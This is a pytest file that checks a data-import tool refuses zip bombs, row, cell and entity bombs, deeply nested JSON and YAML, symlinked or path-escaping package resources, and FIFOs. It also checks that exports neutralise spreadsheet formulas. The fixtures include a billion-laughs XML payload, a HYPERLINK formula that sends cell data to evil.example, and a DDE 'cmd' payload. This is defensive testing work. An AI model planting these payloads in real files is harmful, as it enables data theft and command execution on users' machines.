"""Hostile files are refused quickly, with a message naming the limit, and change nothing.

Each kind of hostile file is built small in a temporary folder: a zip bomb is a highly
compressible member, a row bomb uses a lowered limit (monkeypatched) where the real one would
take long to build, and one test per kind keeps the real limits. Refusals are checked through
the library or service function and through the ``impact`` command, on real databases.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
from openpyxl import Workbook
from tests.cli.conftest import Impact, impact  # noqa: F401 - fixtures
from tests.services.conftest import db, who  # noqa: F401 - fixtures
from tests.services.sample import WS

from impactkit import limits
from impactkit.catalogue.sources import read_sources
from impactkit.catalogue.texts import read_treaty_texts
from impactkit.domain import WorkspaceData
from impactkit.errors import CatalogueError, ImportRejected
from impactkit.exchange import formulas, sources, workbooks
from impactkit.exchange.datapackage import export_datapackage, read_datapackage
from impactkit.exchange.sources import guess_encoding, parse_csv_text, read_table
from impactkit.services.accounts import Principal
from impactkit.services.recommendation_exchange import export_file
from impactkit.services.recommendations import import_file
from impactkit.store import recommendations as rec_store
from impactkit.store.db import Database

MAPPING = {"key": "key", "mechanism": "mechanism", "cycle": "cycle", "text": "text"}
MAP = ["--format", "generic", *[a for f, c in MAPPING.items() for a in ("--map", f"{f}={c}")]]
HEADER = ["key", "mechanism", "cycle", "text"]


def messages(exc: pytest.ExceptionInfo[ImportRejected] | pytest.ExceptionInfo[CatalogueError]
             ) -> str:
    return "\n".join(str(p) for p in exc.value.problems)


def workbook_bytes(rows: list[list[object]]) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "recommendations"
    for row in [HEADER, *rows]:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rezip(raw: bytes, extra: dict[str, bytes], replace_parts: dict[str, bytes] | None = None
          ) -> bytes:
    """A copy of the workbook archive with members added or replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            data = (replace_parts or {}).get(member.filename, source.read(member))
            target.writestr(member.filename, data)
        for name, data in extra.items():
            target.writestr(name, data)
    return out.getvalue()


def good_rows(n: int = 2) -> list[list[object]]:
    return [[f"crc-{i}", "crc", "5", f"Take measure number {i}."] for i in range(n)]


def stored(db: Database) -> int:  # noqa: F811 - the fixture's name
    with db.connect() as conn:
        return len(rec_store.load_recommendations(conn, workspace_key=WS))


def refuse_recs(db: Database, principal: Principal, path: Path) -> str:  # noqa: F811
    with pytest.raises(ImportRejected) as exc:
        import_file(db, principal, workspace_key=WS, path=path, file_format="generic",
                    mapping=MAPPING)
    assert stored(db) == 0
    return messages(exc)


@pytest.fixture
def cli(db: Database, impact: Impact) -> Impact:  # noqa: F811
    """The CLI on the services' sample database (workspace ``xa-2024``, no recommendations)."""
    return impact


def refuse_recs_cli(cli: Impact, path: Path) -> str:
    result = cli("recs", "import", str(path), "-w", WS, *MAP)
    assert result.code == 1, result.err
    assert "Traceback" not in result.err
    assert cli("recs", "search", "-w", WS, "--json").json()["total"] == 0
    return result.err


# --- XLSX: zip bombs, row and cell bombs, entity bombs ---------------------------------------
def test_a_zip_bomb_is_refused_with_the_real_limits(db: Database, who, cli: Impact,  # noqa: F811
                                                    tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.xlsx"
    bomb.write_bytes(rezip(workbook_bytes(good_rows()), {"xl/padding.xml": b" " * (64 << 20)}))
    assert bomb.stat().st_size < 1 << 20  # 64 MiB packed into well under 1 MiB
    for message in (refuse_recs(db, who("contributor"), bomb), refuse_recs_cli(cli, bomb)):
        assert "bomb.xlsx" in message and "xl/padding.xml" in message
        assert f"more than the limit of {limits.MAX_COMPRESSION_RATIO} times" in message


def test_a_workbook_unpacking_past_the_limit_is_refused(monkeypatch: pytest.MonkeyPatch,
                                                        tmp_path: Path) -> None:
    monkeypatch.setattr(workbooks, "MAX_UNPACKED_BYTES", 4096)
    path = tmp_path / "big.xlsx"
    path.write_bytes(workbook_bytes(good_rows(50)))
    with pytest.raises(ImportRejected) as exc:
        read_table(path)
    assert "more than the limit of 4,096 bytes" in messages(exc)


def test_a_row_bomb_is_refused_before_openpyxl_reads_it(db: Database, who,  # noqa: F811
                                                        cli: Impact,
                                                        monkeypatch: pytest.MonkeyPatch,
                                                        tmp_path: Path) -> None:
    for module in (sources, workbooks):
        monkeypatch.setattr(module, "MAX_ROWS", 20)
    path = tmp_path / "rows.xlsx"
    path.write_bytes(workbook_bytes(good_rows(40)))
    for message in (refuse_recs(db, who("contributor"), path), refuse_recs_cli(cli, path)):
        assert "rows.xlsx (sheet 'recommendations')" in message
        assert "more than 20 data rows" in message


def test_a_sheet_skipping_to_row_two_million_stops_at_the_real_row_limit(tmp_path: Path
                                                                         ) -> None:
    """Two rows in the XML, but openpyxl fills the gap up to row 2,000,000 with empty rows:
    reading stops at the limit instead of producing them all."""
    raw = workbook_bytes(good_rows(1))
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    far = re.sub(rb'<row r="2".*?</row>',
                 b'<row r="2000000"><c r="A2000000" t="inlineStr"><is><t>x</t></is></c></row>',
                 sheet, flags=re.S)
    path = tmp_path / "far.xlsx"
    path.write_bytes(rezip(raw, {}, {"xl/worksheets/sheet1.xml": far}))
    with pytest.raises(ImportRejected) as exc:
        read_table(path)
    assert f"more than {limits.MAX_ROWS:,} data rows" in messages(exc)
    assert exc.value.problems[0].row == limits.MAX_ROWS + 2


def test_a_cell_bomb_is_refused(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(workbooks, "MAX_CELLS", 30)
    path = tmp_path / "cells.xlsx"
    path.write_bytes(workbook_bytes(good_rows(10)))
    with pytest.raises(ImportRejected) as exc:
        read_table(path)
    assert "more than the limit of 30 cells in all sheets together" in messages(exc)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol3;</t></si></sst>
"""


def test_an_entity_bomb_is_refused(db: Database, who, cli: Impact,  # noqa: F811
                                   tmp_path: Path) -> None:
    raw = workbook_bytes(good_rows())
    path = tmp_path / "lol.xlsx"
    path.write_bytes(rezip(raw, {}, {"xl/sharedStrings.xml": BILLION_LAUGHS}) if
                     "xl/sharedStrings.xml" in zipfile.ZipFile(io.BytesIO(raw)).namelist()
                     else rezip(raw, {"xl/sharedStrings.xml": BILLION_LAUGHS}))
    for message in (refuse_recs(db, who("contributor"), path), refuse_recs_cli(cli, path)):
        assert "lol.xlsx" in message and "<!DOCTYPE or <!ENTITY" in message


def test_openpyxl_parses_with_defusedxml() -> None:
    """The second line of defence: an entity declaration openpyxl meets is refused too."""
    assert openpyxl.DEFUSEDXML is True


# --- CSV cells --------------------------------------------------------------------------------
def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows([HEADER, *rows])
    return path


def test_a_nul_in_a_cell_is_refused_with_row_and_column(db: Database, who,  # noqa: F811
                                                        cli: Impact, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "nul.csv", [*good_rows(3), ["crc-9", "crc", "5", "Do\x00 it."]])
    for message in (refuse_recs(db, who("contributor"), path), refuse_recs_cli(cli, path)):
        assert "nul.csv, row 5, text: The cell in column 4 (D, 'text')" in message
        assert "control character U+0000" in message


def test_a_control_character_in_a_workbook_cell_is_refused(tmp_path: Path) -> None:
    """XML cannot carry most control characters (a sheet holding one raw is refused as
    unreadable), but it can carry DEL, which the cell check refuses."""
    path = tmp_path / "ctl.xlsx"
    path.write_bytes(workbook_bytes([["crc-1", "crc", "5", "Delete\x7f"]]))
    with pytest.raises(ImportRejected) as exc:
        read_table(path)
    problem = exc.value.problems[0]
    assert (problem.location, problem.row, problem.field) == (
        "ctl.xlsx (sheet 'recommendations')", 2, "text")
    assert "U+007F" in problem.message
    raw = workbook_bytes([["crc-1", "crc", "5", "NulMARK"]])
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        part = next(n for n in archive.namelist() if b"NulMARK" in archive.read(n))
        broken = archive.read(part).replace(b"NulMARK", b"Nul\x00")
    path.write_bytes(rezip(raw, {}, {part: broken}))
    with pytest.raises(ImportRejected) as exc:
        read_table(path)
    assert "the sheet cannot be read" in messages(exc)


def test_cells_up_to_the_text_limit_are_read_and_longer_ones_refused(
        db: Database, who, cli: Impact, tmp_path: Path) -> None:  # noqa: F811
    longest = "a" * limits.MAX_TEXT_CHARS
    table = parse_csv_text(f"key,text\nk,{longest}\n", "ok.csv")
    assert table.rows == [(2, ["k", longest])]
    path = write_csv(tmp_path / "long.csv", [["crc-1", "crc", "5", "a" * 131_073]])
    for message in (refuse_recs(db, who("contributor"), path), refuse_recs_cli(cli, path)):
        assert "long.csv, row 2, text: The cell in column 4 (D, 'text')" in message
        assert f"more than the limit of {limits.MAX_TEXT_CHARS:,} characters" in message
        assert "field larger than field limit" not in message


def test_a_csv_row_bomb_is_refused(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(sources, "MAX_ROWS", 5)
    path = write_csv(tmp_path / "rows.csv", good_rows(10))
    with pytest.raises(ImportRejected) as exc:
        read_table(path)
    assert exc.value.problems[0].row == 7 and "more than 5 data rows" in messages(exc)


def test_a_named_pipe_or_device_is_refused_without_hanging(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    for path in (fifo, Path("/dev/zero")):
        with pytest.raises(ImportRejected) as exc:
            sources.read_csv(path, "table.csv")
        assert "not a regular file" in messages(exc)


def test_western_european_text_is_named_windows_1252() -> None:
    for text in ("key,narrative\nf-1,L'élève n'a pas reçu l'aide\n", "x\ndéjà vu\n",
                 "key,title\nf1,Müller Straße\n", "k,t\n1,niño pequeño\n"):
        assert guess_encoding(text.encode("cp1252")) == "cp1252", text
    assert guess_encoding("Привет мир, как дела".encode("cp1251")) == "cp1251"


# --- nesting -----------------------------------------------------------------------------------
def test_deep_yaml_is_refused_before_the_parser_recurses(cli: Impact, tmp_path: Path) -> None:
    path = tmp_path / "deep.yaml"
    path.write_text("key: x\nindicators: " + "[" * 30_000 + "]" * 30_000 + "\n")
    sources_found, problems = read_sources(path)
    assert not sources_found
    assert f"deeper than the limit of {limits.MAX_NESTING_DEPTH} levels" in problems[0].message
    result = cli("catalogue", "validate", str(path))
    assert result.code == 1 and "deeper than the limit" in result.out + result.err


def test_deep_json_is_refused_in_a_package_and_in_treaty_texts(
        cli: Impact, sample_data: WorkspaceData, catalogue, tmp_path: Path) -> None:
    deep = "[" * 100_000 + "]" * 100_000
    package = tmp_path / "package"
    descriptor = export_datapackage(sample_data, package)
    descriptor.write_text('{"resources": ' + deep + "}", encoding="utf-8")
    with pytest.raises(ImportRejected) as exc:
        read_datapackage(package)
    assert f"deeper than the limit of {limits.MAX_NESTING_DEPTH} levels" in messages(exc)
    before = cli("workspace", "list", "--json").json()
    result = cli("import", str(package))
    assert result.code == 1 and "deeper than the limit" in result.err
    assert "Traceback" not in result.err and "RecursionError" not in result.err
    assert cli("workspace", "list", "--json").json() == before
    texts = tmp_path / "texts.json"
    texts.write_text('{"instruments": ' + deep + "}", encoding="utf-8")
    with pytest.raises(CatalogueError) as caught:
        read_treaty_texts(texts, catalogue)
    assert "deeper than the limit" in messages(caught)
    result = cli("catalogue", "load-texts", str(texts))
    assert result.code == 1 and "deeper than the limit" in result.err


# --- data package resources ------------------------------------------------------------------
def test_a_symlinked_resource_is_refused_and_its_content_never_shown(
        cli: Impact, sample_data: WorkspaceData, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("root-secret-line:x:0:0\n", encoding="utf-8")
    package = tmp_path / "package"
    export_datapackage(sample_data, package)
    (package / "actors.csv").unlink()
    (package / "actors.csv").symlink_to(secret)
    with pytest.raises(ImportRejected) as exc:
        read_datapackage(package)
    assert "actors.csv: The file is a symbolic link" in messages(exc)
    assert "root-secret-line" not in str(exc.value)
    before = cli("workspace", "list", "--json").json()
    result = cli("import", str(package))
    assert result.code == 1 and "symbolic link" in result.err
    assert "root-secret-line" not in result.out + result.err
    assert cli("workspace", "list", "--json").json() == before


def test_a_fifo_resource_a_linked_folder_and_a_path_out_are_refused(
        sample_data: WorkspaceData, tmp_path: Path) -> None:
    package = tmp_path / "package"
    descriptor = export_datapackage(sample_data, package)
    (package / "actors.csv").unlink()
    os.mkfifo(package / "actors.csv")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "links.csv").write_text("secret-header\n", encoding="utf-8")
    (package / "sub").symlink_to(outside)
    spec = json.loads(descriptor.read_text(encoding="utf-8"))
    paths = {"links": "sub/links.csv", "findings": "../outside/links.csv"}
    for resource in spec["resources"]:
        resource["path"] = paths.get(resource["name"], resource["path"])
    descriptor.write_text(json.dumps(spec), encoding="utf-8")
    with pytest.raises(ImportRejected) as exc:
        read_datapackage(package)
    text = messages(exc)
    assert "actors.csv: This is not a regular file" in text
    assert "sub/links.csv: The file is a symbolic link" in text
    assert "resource path '../outside/links.csv' must be a file name inside" in text
    assert "secret-header" not in text


# --- formulas in exports -------------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1", "-2", "'=already quoted", "\tTab first"]


def test_exported_package_cells_cannot_run_as_formulas_and_read_back_unchanged(
        sample_data: WorkspaceData, tmp_path: Path) -> None:
    findings = [replace(f, title=FORMULAS[i % len(FORMULAS)], narrative=FORMULAS[-1 - i])
                for i, f in enumerate(sample_data.findings[:len(FORMULAS)])]
    data = replace(sample_data, findings=[*findings, *sample_data.findings[len(FORMULAS):]])
    export_datapackage(data, tmp_path)
    with (tmp_path / "findings.csv").open(encoding="utf-8", newline="") as handle:
        for row in csv.DictReader(handle):
            for name in ("title", "narrative"):
                assert not row[name].startswith(formulas.FORMULA_STARTS), row[name]
    assert read_datapackage(tmp_path) == data


def test_the_neutraliser_only_strips_what_it_added() -> None:
    for text in [*FORMULAS, "'tis", "'", "''", "plain", "", "''=x"]:
        assert formulas.restore(formulas.neutralise(text)) == text
    assert formulas.neutralise("'tis") == "'tis"
    assert formulas.restore("'tis") == "'tis"
    assert formulas.neutralise(3) == 3



def test_recommendation_exports_neutralise_formulas(db: Database, who,  # noqa: F811
                                                    tmp_path: Path) -> None:
    path = write_csv(tmp_path / "recs.csv", [["crc-1", "crc", "5", FORMULAS[0]],
                                             ["crc-2", "crc", "5", FORMULAS[1]]])
    import_file(db, who("contributor"), workspace_key=WS, path=path, file_format="generic",
                mapping=MAPPING)
    assert export_file(db, who("viewer"), workspace_key=WS, path=tmp_path / "out.csv") == 2
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as handle:
        texts = {row["key"]: row["text"] for row in csv.DictReader(handle)}
    assert texts == {"crc-1": "'" + FORMULAS[0], "crc-2": "'" + FORMULAS[1]}
    export_file(db, who("viewer"), workspace_key=WS, path=tmp_path / "out.xlsx")
    book = openpyxl.load_workbook(tmp_path / "out.xlsx", read_only=True)
    values = [str(v) for row in book.worksheets[0].iter_rows(min_row=2, values_only=True)
              for v in row if isinstance(v, str) and v]
    book.close()
    assert not any(v.startswith(formulas.FORMULA_STARTS) for v in values)


# --- the documentation --------------------------------------------------------------------------
def test_every_limit_is_documented_with_its_value() -> None:
    page = (Path(__file__).resolve().parents[2] / "docs" / "data-formats.md").read_text(
        encoding="utf-8")
    section = page.split("\n## Limits\n", 1)[1].split("\n## ", 1)[0]
    rows = {line.split("|")[1].strip(" `"): line for line in section.splitlines()
            if line.startswith("| `")}
    constants = {name: value for name, value in vars(limits).items()
                 if name.isupper() and isinstance(value, int)}
    assert set(rows) == set(constants)
    for name, value in constants.items():
        assert f"| {value:,} " in rows[name].replace("`", ""), (name, rows[name])
